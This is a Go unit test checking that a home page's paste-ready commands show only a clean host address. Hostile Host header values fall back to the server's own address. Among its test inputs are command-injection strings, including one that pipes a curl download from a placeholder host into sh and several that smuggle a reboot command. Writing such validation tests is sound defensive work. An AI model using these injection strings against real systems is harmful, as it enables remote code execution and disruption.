package home

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"testing"
)

// The page shows commands to paste. A Host that is more than an address is not in them.
func TestAddressOnThePage(t *testing.T) {
	own := &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 8080}
	for host, want := range map[string]string{
		"proxy.example:3128":             "proxy.example:3128",
		"PROXY_1.example":                "proxy_1.example:80",
		"[2001:DB8::1]:8080":             "[2001:db8::1]:8080",
		"":                               "192.0.2.1:8080",
		"x;curl$IFS-s$IFS'e.example'|sh": "192.0.2.1:8080",
		"$(reboot)":                      "192.0.2.1:8080",
		"`reboot`:1":                     "192.0.2.1:8080",
		"a&reboot":                       "192.0.2.1:8080",
		"a%0areboot":                     "192.0.2.1:8080",
		"a#b":                            "192.0.2.1:8080",
		"a:1/../$(reboot)":               "192.0.2.1:8080",
		"user@a":                         "192.0.2.1:8080",
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.Host = host
		r = r.WithContext(context.WithValue(r.Context(), http.LocalAddrContextKey, net.Addr(own)))
		if got := addressFor(r); got != want {
			t.Errorf("Host %q: %s, want %s", host, got, want)
		}
	}
}
